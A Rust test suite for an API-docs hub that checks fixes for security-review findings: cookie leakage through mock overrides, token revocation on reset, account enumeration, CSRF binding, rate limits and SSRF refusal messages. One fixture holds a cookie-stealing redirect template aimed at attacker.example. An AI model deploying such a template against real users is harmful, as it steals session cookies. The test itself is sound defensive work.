//! No tenant can read a visitor's session, and the account-safety gaps of
//! the review: one scenario per finding, each through the real router on
//! both stores, each failing on the code before its fix.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Method, Request, StatusCode, header};
use hub_core::Plan;
use hub_core::sessions::{AccountsConfig, SignupMode};
use kernel::Secret;
use serde_json::{Value, json};
use test_kit::{TestApp, TestResponse, on_both_stores};

use crate::dashboard::{Browser, PASSWORD, csrf_of, link_token, location, mails, signed_in, text};

on_both_stores!(
    a_mock_override_cannot_copy_the_visitors_cookies,
    a_reset_can_revoke_every_token_a_stolen_session_minted,
    sign_up_reset_and_resend_answer_alike_for_every_address,
    a_csrf_pair_from_one_browser_fails_with_another_session,
    a_password_change_renews_this_browsers_session_and_is_throttled,
    embed_json_of_a_restricted_project_is_never_stored,
    limits_key_ipv6_by_64_refusals_name_nothing_and_next_stays_inside,
    fifty_concurrent_chats_one_token_below_the_cap_never_pass_it,
);

/// Every cookie the hub sets, as a signed-in browser holding a docs
/// password session sends them, beside a cookie of the tenant's own API.
const VISITOR_COOKIES: &str = "svc_session=victim-session-secret; svc_csrf=victim-csrf-nonce-0001; \
     svc_flash=k%3Dinfo; svc_docs_member=victim-member; svc_docs_session_other=victim-docs; \
     __Host-svc_session=victim-https-session; session=tenants-own";

const SECRETS: [&str; 6] =
    ["victim-session-secret", "victim-csrf-nonce", "victim-member", "victim-docs", "victim-https-session", "k%3Dinfo"];

/// A Free account's public project with an override that copies the
/// request's cookies into the `Location` header and the body.
async fn thieving_override(app: &TestApp) -> String {
    let (_, token) = app.user("thief@example.com", Plan::Free).await;
    let slug = app.project(&token, "Thief").await;
    let public = app.patch_json(&format!("/api/v1/projects/{slug}"), &token, &json!({"is_public": true})).await;
    assert_eq!(public.status, StatusCode::OK);
    let pushed = app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    assert_eq!(pushed.status, StatusCode::CREATED, "{}", String::from_utf8_lossy(&pushed.body));
    let body = json!({
        "matcher": {"path": "/pets"},
        "response": {
            "status": 302,
            "headers": {"Location": "https://attacker.example/c?c={{request.headers.cookie}}"},
            "body": {"cookie": "{{request.headers.cookie}}", "header": "{{request.headers.Cookie}}"}
        }
    });
    let saved = app.post_json(&format!("/api/v1/projects/{slug}/mock/overrides"), &token, &body).await;
    assert_eq!(saved.status, StatusCode::CREATED, "{}", String::from_utf8_lossy(&saved.body));
    slug
}

fn assert_no_secret(response: &TestResponse, origin: &str) {
    let location = response.headers.get(header::LOCATION).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    let body = String::from_utf8_lossy(&response.body).into_owned();
    for secret in SECRETS {
        assert!(!location.contains(secret), "{origin}: the Location carries {secret}: {location}");
        assert!(!body.contains(secret), "{origin}: the body carries {secret}: {body}");
    }
    assert!(location.contains("session=tenants-own"), "{origin}: the tenant's own cookie stays: {location}");
}

async fn a_mock_override_cannot_copy_the_visitors_cookies(app: TestApp) {
    let slug = thieving_override(&app).await;
    // The single-origin default: the mock shares the dashboard's origin.
    let request = Request::builder()
        .uri(format!("/mock/{slug}/pets"))
        .header(header::COOKIE, VISITOR_COOKIES)
        .body(Body::empty())
        .unwrap();
    let answered = TestApp::send(&app.unlimited, request).await;
    assert_eq!(answered.status, StatusCode::FOUND, "{}", String::from_utf8_lossy(&answered.body));
    assert_no_secret(&answered, "one origin");
    // HTTP/2 clients send one Cookie header per cookie.
    let mut request = Request::builder().uri(format!("/mock/{slug}/pets"));
    for pair in VISITOR_COOKIES.split("; ") {
        request = request.header(header::COOKIE, pair);
    }
    let split = TestApp::send(&app.unlimited, request.body(Body::empty()).unwrap()).await;
    assert_no_secret(&split, "one header per cookie");

    // The two-origin deployment: the tenant-content origin's own router
    // applies the same rule (a browser would not send the hub's cookies
    // there, but a sibling subdomain's might arrive).
    let mut web = hub_http::WebConfig::new("https://hub.example.com", &platform::secrets::SecretKey::generate());
    web.mock_public_url = Some("https://mock.example-content.com".to_owned());
    let state = hub_http::AppState {
        hub: app.hub.clone(),
        cron_secret: Secret::new(test_kit::CRON_SECRET.to_owned()),
        outbound: platform::outbound::Outbound::guarded(platform::outbound::AllowList::default()),
        web: Arc::new(web),
    };
    let off = hub_http::mock_server::MockConfig { per_project_per_minute: 0, per_ip_per_minute: 0 };
    let tenant_origin = hub_http::mock_router(&state, off);
    let request = Request::builder()
        .uri(format!("/mock/{slug}/pets"))
        .header(header::COOKIE, VISITOR_COOKIES)
        .body(Body::empty())
        .unwrap();
    let answered = TestApp::send(&tenant_origin, request).await;
    assert_eq!(answered.status, StatusCode::FOUND);
    assert_no_secret(&answered, "the tenant-content origin");
    // ...and the hub's origin sends the browser there instead of answering.
    let hub_origin = app.router_with_web(state.web.as_ref().clone());
    let request = Request::builder()
        .uri(format!("/mock/{slug}/pets"))
        .header(header::COOKIE, VISITOR_COOKIES)
        .body(Body::empty())
        .unwrap();
    let moved = TestApp::send(&hub_origin, request).await;
    assert_eq!(moved.status, StatusCode::PERMANENT_REDIRECT);
    assert_eq!(moved.headers[header::LOCATION], format!("https://mock.example-content.com/mock/{slug}/pets"));

    // A password-protected project's mock still opens with the docs
    // session, which is read first and then removed like the others.
    let (_, token) = app.user("guarded@example.com", Plan::Pro).await;
    let guarded = app.project(&token, "Guarded").await;
    app.patch_json(&format!("/api/v1/projects/{guarded}"), &token, &json!({"is_public": true})).await;
    app.push(&guarded, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let set = app
        .request(
            Method::PUT,
            &format!("/api/v1/projects/{guarded}/docs-password"),
            Some(&token),
            Some(Body::from(json!({"password": "open sesame please"}).to_string())),
        )
        .await;
    assert!(set.status.is_success(), "{}", String::from_utf8_lossy(&set.body));
    let body = json!({"matcher": {"path": "/pets"}, "response": {"status": 200, "body": {"cookie": "{{request.headers.cookie}}"}}});
    let saved = app.post_json(&format!("/api/v1/projects/{guarded}/mock/overrides"), &token, &body).await;
    assert_eq!(saved.status, StatusCode::CREATED);
    let closed = app.mock(Method::GET, &format!("/mock/{guarded}/pets"), &[], None).await;
    assert_eq!(closed.status, StatusCode::UNAUTHORIZED, "{}", String::from_utf8_lossy(&closed.body));
    let mut browser = Browser::new(&app);
    let form = browser.get(&format!("/docs/{guarded}")).await;
    let csrf = csrf_of(&text(&form));
    let login = browser
        .post(&format!("/docs/{guarded}/_login"), &[("password", "open sesame please"), ("csrf_token", &csrf)])
        .await;
    assert_eq!(login.status, StatusCode::SEE_OTHER, "{}", text(&login));
    let cookie = browser.cookie_header();
    assert!(cookie.contains(&format!("svc_docs_session_{guarded}=")), "{cookie}");
    let opened = app.mock(Method::GET, &format!("/mock/{guarded}/pets"), &[("cookie", &cookie)], None).await;
    assert_eq!(opened.status, StatusCode::OK, "{}", String::from_utf8_lossy(&opened.body));
    assert_eq!(opened.json()["cookie"], Value::Null, "the docs session opened the mock and was then removed");
}

async fn a_reset_can_revoke_every_token_a_stolen_session_minted(app: TestApp) {
    let email = "victim@example.com";
    // The attacker holds the victim's session and mints a token with it.
    let mut stolen = signed_in(&app, email, Plan::Free).await;
    let minted = stolen.submit("/app/tokens", "/app/tokens", &[("name", "backdoor"), ("expires_in", "0")]).await;
    let html = text(&minted);
    let start = html.find("id=\"new-token\">").expect("the token is shown") + "id=\"new-token\">".len();
    let backdoor: String = html[start..].chars().take_while(|c| *c != '<').collect();
    assert_eq!(app.get("/api/v1/projects", &backdoor).await.status, StatusCode::OK);

    // The victim resets the password: the page lists the token, with the
    // revocation checked.
    let mut victim = Browser::new(&app);
    victim.submit("/app/reset", "/app/reset", &[("email", email)]).await;
    let link = link_token(mails(&app).await.last().unwrap(), "/app/reset/new");
    let page = format!("/app/reset/new?token={link}");
    let form = text(&victim.get(&page).await);
    assert!(form.contains("backdoor") && form.contains("1 active token"), "{form}");
    assert!(form.contains("name=\"revoke_tokens\"") && form.contains("checked"), "{form}");
    let saved = victim
        .submit(
            &page,
            "/app/reset/new",
            &[("token", &link), ("password", "brand new lantern"), ("revoke_tokens", "on")],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", text(&saved));
    let refused = app.get("/api/v1/projects", &backdoor).await;
    assert_eq!((refused.status, refused.error_code().as_str()), (StatusCode::UNAUTHORIZED, "INVALID_TOKEN"));
    assert_eq!(stolen.get("/app").await.status, StatusCode::SEE_OTHER, "the stolen session ended");
    assert!(app.hub.list_tokens(email).await.unwrap().is_empty());

    // Unchecked, the tokens stay (a CI token the owner still wants).
    let (_, kept) = app.user("careful@example.com", Plan::Free).await;
    let mut careful = Browser::new(&app);
    careful.submit("/app/reset", "/app/reset", &[("email", "careful@example.com")]).await;
    let link = link_token(mails(&app).await.last().unwrap(), "/app/reset/new");
    let page = format!("/app/reset/new?token={link}");
    let saved =
        careful.submit(&page, "/app/reset/new", &[("token", &link), ("password", "quiet harbour lights")]).await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", text(&saved));
    assert_eq!(app.get("/api/v1/projects", &kept).await.status, StatusCode::OK);
}

/// A router over this app's hub with sign-up `mode` and mail in the app's
/// mail folder.
fn with_signup(app: &TestApp, mode: SignupMode) -> axum::Router {
    let mailer = platform::mail::Mailer::from_config(None, "noreply@localhost", app.mail_dir().parent().unwrap())
        .expect("a mailer");
    let accounts = AccountsConfig { signup: mode, public_url: "http://127.0.0.1".to_owned(), mailer };
    app.router_for(app.hub.clone().with_accounts(accounts))
}

/// Opens `page` and posts `fields` with its CSRF token as a new browser;
/// the time of the post alone.
async fn timed_post(
    router: &axum::Router,
    page: &str,
    action: &str,
    fields: &[(&str, &str)],
) -> (TestResponse, Duration) {
    let form = TestApp::send(router, Request::builder().uri(page).body(Body::empty()).unwrap()).await;
    let csrf = csrf_of(&text(&form));
    let cookie: String = form
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().split(';').next().unwrap().to_owned())
        .collect::<Vec<_>>()
        .join("; ");
    let mut all = fields.to_vec();
    all.push(("csrf_token", &csrf));
    let request = Request::builder()
        .method(Method::POST)
        .uri(action)
        .header(header::COOKIE, cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(serde_urlencoded::to_string(&all).unwrap()))
        .unwrap();
    let started = Instant::now();
    let response = TestApp::send(router, request).await;
    (response, started.elapsed())
}

/// The page without the address it names.
fn page_without(response: &TestResponse, email: &str) -> String {
    text(response).replace(email, "ADDRESS")
}

async fn sign_up_reset_and_resend_answer_alike_for_every_address(app: TestApp) {
    let known = "known@example.com";
    app.hub.create_user(known, Plan::Free, Some(&Secret::new(PASSWORD.to_owned()))).await.unwrap();
    let unverified = "pending@example.com";
    let open = with_signup(&app, SignupMode::Open);
    // An unverified account with a password, for the resend.
    let (made, _) =
        timed_post(&open, "/app/signup", "/app/signup", &[("email", unverified), ("password", PASSWORD)]).await;
    assert_eq!(made.status, StatusCode::OK);
    app.hub.settle_background().await;
    let before = mails(&app).await.len();

    // The same page, word for word but the address, for known and unknown.
    let invite = with_signup(&app, SignupMode::Invite);
    for (router, unknown) in [(&open, "newcomer@example.com"), (&invite, "nobody@example.com")] {
        let (a, _) =
            timed_post(router, "/app/signup", "/app/signup", &[("email", known), ("password", "a sign up attempt")])
                .await;
        let (b, _) =
            timed_post(router, "/app/signup", "/app/signup", &[("email", unknown), ("password", "a sign up attempt")])
                .await;
        assert_eq!((a.status, b.status), (StatusCode::OK, StatusCode::OK), "{}", text(&b));
        assert_eq!(page_without(&a, known), page_without(&b, unknown));
        assert!(text(&b).contains("Check your mail"));
    }
    // Nothing of the known account changed; its owner was told, once per
    // try; the newcomer of open sign-up got a link; invite mode mailed no
    // address without an invitation.
    let sent = mails(&app).await;
    let told =
        sent[before..].iter().filter(|m| m.contains("Someone tried to sign up") && m.contains(&format!("To: {known}")));
    assert_eq!(told.count(), 2, "one mail per sign-up try on the known address");
    assert_eq!(sent[before..].iter().filter(|m| m.contains("To: newcomer@example.com")).count(), 1);
    assert_eq!(sent.len() - before, 3, "no mail to nobody@example.com");
    let mut owner = Browser::new(&app);
    assert_eq!(owner.sign_in(known, PASSWORD).await.status, StatusCode::SEE_OTHER, "the password is unchanged");
    assert!(app.hub.user_by_email("nobody@example.com").await.is_err(), "invite mode created nothing");

    // The timing of the same answers is measured in `tests/timing.rs`,
    // alone in its binary so no other test shares the CPU.
}

async fn a_csrf_pair_from_one_browser_fails_with_another_session(app: TestApp) {
    let mut attacker = signed_in(&app, "attacker@example.com", Plan::Free).await;
    let page = attacker.get("/app/new").await;
    let token = csrf_of(&text(&page));
    let nonce = attacker.cookies.get("svc_csrf").cloned().expect("a csrf cookie");
    // The pair works in the attacker's own browser...
    let mut victim = signed_in(&app, "victim@example.com", Plan::Free).await;
    // ...planted beside the victim's session (plain HTTP, sibling subdomain).
    victim.cookies.insert("svc_csrf".to_owned(), nonce);
    let forged = victim.post("/app/new", &[("name", "Planted"), ("csrf_token", &token)]).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN, "{}", text(&forged));
    let user = app.hub.user_by_email("victim@example.com").await.unwrap();
    let principal = hub_core::Principal { user_id: user.id, email: user.email, plan: user.plan, token_id: None };
    let listed = app.hub.list_projects(&principal, None, kernel::PageRequest::clamped(None, None)).await.unwrap();
    assert_eq!(listed.total, 0, "no project was created");
    let own = attacker.post("/app/new", &[("name", "Mine"), ("csrf_token", &token)]).await;
    assert_eq!(own.status, StatusCode::SEE_OTHER, "the pair still works where it was issued: {}", text(&own));
    // A sign-in changes the token the same browser's forms need.
    let mut fresh = Browser::new(&app);
    let before = csrf_of(&text(&fresh.get("/app/signin").await));
    fresh.sign_in("attacker@example.com", PASSWORD).await;
    let after = csrf_of(&text(&fresh.get("/app/new").await));
    assert_ne!(before, after);
}

async fn a_password_change_renews_this_browsers_session_and_is_throttled(app: TestApp) {
    let email = "renew@example.com";
    let mut browser = signed_in(&app, email, Plan::Free).await;
    let old = browser.cookies.get("svc_session").cloned().unwrap();
    let changed = browser
        .submit(
            "/app/account",
            "/app/account/password",
            &[("current_password", PASSWORD), ("new_password", "fresh orange kayak")],
        )
        .await;
    assert_eq!(changed.status, StatusCode::SEE_OTHER, "{}", text(&changed));
    let new = browser.cookies.get("svc_session").cloned().unwrap();
    assert_ne!(old, new, "a new secret for this browser");
    assert_eq!(browser.get("/app/account").await.status, StatusCode::OK, "this browser stays signed in");
    // A copy of the old cookie no longer opens anything.
    let mut copy = Browser::new(&app);
    copy.cookies.insert("svc_session".to_owned(), old);
    assert_eq!(copy.get("/app").await.status, StatusCode::SEE_OTHER);

    // Wrong current passwords meet the sign-in throttle: 10 password checks
    // per account a minute, the sign-in and the change above included.
    let mut statuses = Vec::new();
    for _ in 0..12 {
        let wrong = browser
            .submit(
                "/app/account",
                "/app/account/password",
                &[("current_password", "not it at all"), ("new_password", "other orange kayak")],
            )
            .await;
        statuses.push(wrong.status);
        if wrong.status == StatusCode::TOO_MANY_REQUESTS {
            assert!(wrong.headers.get(header::RETRY_AFTER).is_some());
        }
    }
    let mut expected = vec![StatusCode::UNPROCESSABLE_ENTITY; 8];
    expected.extend([StatusCode::TOO_MANY_REQUESTS; 4]);
    assert_eq!(statuses, expected);
}

async fn embed_json_of_a_restricted_project_is_never_stored(app: TestApp) {
    let email = "embeds@example.com";
    let mut browser = signed_in(&app, email, Plan::Pro).await;
    let user = app.hub.user_by_email(email).await.unwrap();
    let (_, token) = app.hub.create_token(email, "t", None, hub_core::Source::System).await.unwrap();
    let token = token.into_inner();
    let slug = app.project(&token, "Private Embeds").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    assert_eq!(user.plan, Plan::Pro);
    let private = browser.get(&format!("/docs/{slug}/embed.json?operation=listPets")).await;
    assert_eq!(private.status, StatusCode::OK, "{}", text(&private));
    assert_eq!(private.json()["operation"]["key"], "listPets", "{}", text(&private));
    assert_eq!(private.headers[header::CACHE_CONTROL], "private, no-store");
    // Public, a shared cache may keep it (revalidated).
    app.patch_json(&format!("/api/v1/projects/{slug}"), &token, &json!({"is_public": true})).await;
    let public = app.request(Method::GET, &format!("/docs/{slug}/embed.json?operation=listPets"), None, None).await;
    assert_eq!(public.status, StatusCode::OK);
    assert_eq!(public.headers[header::CACHE_CONTROL], "no-cache");
}

fn from(ip: &str, request: Request<Body>) -> Request<Body> {
    let mut request = request;
    let addr: IpAddr = ip.parse().unwrap();
    request.extensions_mut().insert(ConnectInfo(SocketAddr::new(addr, 40_000)));
    request
}

async fn limits_key_ipv6_by_64_refusals_name_nothing_and_next_stays_inside(app: TestApp) {
    // The mock's 60 requests per address a minute count a /64 as one client.
    let (_, token) = app.user("six@example.com", Plan::Pro).await;
    let slug = app.project(&token, "Six").await;
    app.patch_json(&format!("/api/v1/projects/{slug}"), &token, &json!({"is_public": true})).await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let mut last = StatusCode::OK;
    for i in 0..61 {
        let request = Request::builder().uri(format!("/mock/{slug}/pets")).body(Body::empty()).unwrap();
        let response = TestApp::send(&app.router, from(&format!("2001:db8:60:1::{:x}", i + 1), request)).await;
        last = response.status;
        if i < 60 {
            assert_eq!(response.status, StatusCode::OK, "request {i}");
        }
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS, "the 61st address of one /64 is the same client");
    let other = Request::builder().uri(format!("/mock/{slug}/pets")).body(Body::empty()).unwrap();
    assert_eq!(TestApp::send(&app.router, from("2001:db8:60:2::1", other)).await.status, StatusCode::OK);

    // The Try-It relay refuses without saying what a name resolves to.
    let (_, owner) = app.user("relay@example.com", Plan::Pro).await;
    let relay_slug = app.project(&owner, "Relay").await;
    let spec = crate::openapi_yaml("1").replace("paths:", "servers:\n  - url: http://localhost:9/v1\npaths:");
    app.patch_json(&format!("/api/v1/projects/{relay_slug}"), &owner, &json!({"is_public": true})).await;
    let pushed = app.push(&relay_slug, &owner, "label=1&makeDefault=true", spec).await;
    assert_eq!(pushed.status, StatusCode::CREATED, "{}", String::from_utf8_lossy(&pushed.body));
    let strict = hub_http::AppState {
        hub: app.hub.clone(),
        cron_secret: Secret::new(test_kit::CRON_SECRET.to_owned()),
        outbound: platform::outbound::Outbound::guarded(platform::outbound::AllowList::default()),
        web: Arc::new(hub_http::WebConfig::default()),
    };
    let strict = hub_http::router(strict);
    let body = json!({"method": "GET", "url": "http://localhost:9/v1/pets", "headers": {}}).to_string();
    let request = Request::builder()
        .method(Method::POST)
        .uri(format!("/docs/{relay_slug}/1/_tryit"))
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body))
        .unwrap();
    let refused = TestApp::send(&strict, request).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{}", String::from_utf8_lossy(&refused.body));
    let message = String::from_utf8_lossy(&refused.body).into_owned();
    assert!(message.contains("not an allowed destination"), "{message}");
    for leak in ["loopback", "127.0.0.1", "::1", "resolves"] {
        assert!(!message.contains(leak), "the refusal names {leak}: {message}");
    }
    assert_eq!(refused.headers[header::CACHE_CONTROL], "private, no-store");

    // A control character in `next` leads to the default page, not a 500.
    let mut browser = Browser::new(&app);
    app.hub.create_user("next@example.com", Plan::Free, Some(&Secret::new(PASSWORD.to_owned()))).await.unwrap();
    let signed = browser
        .submit(
            "/app/signin",
            "/app/signin",
            &[("email", "next@example.com"), ("password", PASSWORD), ("next", "/app/p/x\u{1}y")],
        )
        .await;
    assert_eq!(signed.status, StatusCode::SEE_OTHER, "{}", text(&signed));
    assert_eq!(location(&signed), "/app");
}

async fn fifty_concurrent_chats_one_token_below_the_cap_never_pass_it(app: TestApp) {
    let (user, token) = app.user("chatty@example.com", Plan::Pro).await;
    let slug = app.project(&token, "Chatty").await;
    app.patch_json(&format!("/api/v1/projects/{slug}"), &token, &json!({"is_public": true})).await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let cap = i64::from(Plan::Pro.limits().chat_tokens_per_day);
    app.hub.store().add_usage(&user.id, "chat_tokens", test_kit::START.as_millis(), cap - 1).await.unwrap();
    let requests = (0..50).map(|i| {
        let router = app.router.clone();
        let path = format!("/docs/{slug}/1/_chat");
        async move {
            // Each from its own address, so the per-visitor limit is not what stops them.
            let request = Request::builder()
                .method(Method::POST)
                .uri(path)
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(json!({ "message": "how do I list pets?" }).to_string()))
                .unwrap();
            TestApp::send(&router, from(&format!("198.51.100.{}", i + 1), request)).await
        }
    });
    let answers = futures_util::future::join_all(requests).await;
    app.hub.settle_background().await;
    let streamed = answers.iter().filter(|a| a.status == StatusCode::OK).count();
    let refused = answers.iter().filter(|a| a.status == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!(streamed + refused, 50, "{:?}", answers.iter().map(|a| a.status).collect::<Vec<_>>());
    assert_eq!(streamed, 1, "one token was left: one answer");
    // The answer's task settles after its stream ends.
    tokio::time::sleep(Duration::from_millis(50)).await;
    let used = app.hub.ai_usage(&user.id, Plan::Pro).await.unwrap().chat_tokens_today;
    assert_eq!(used, u64::try_from(cap).unwrap(), "the ledger ends at the cap, never past it");
}
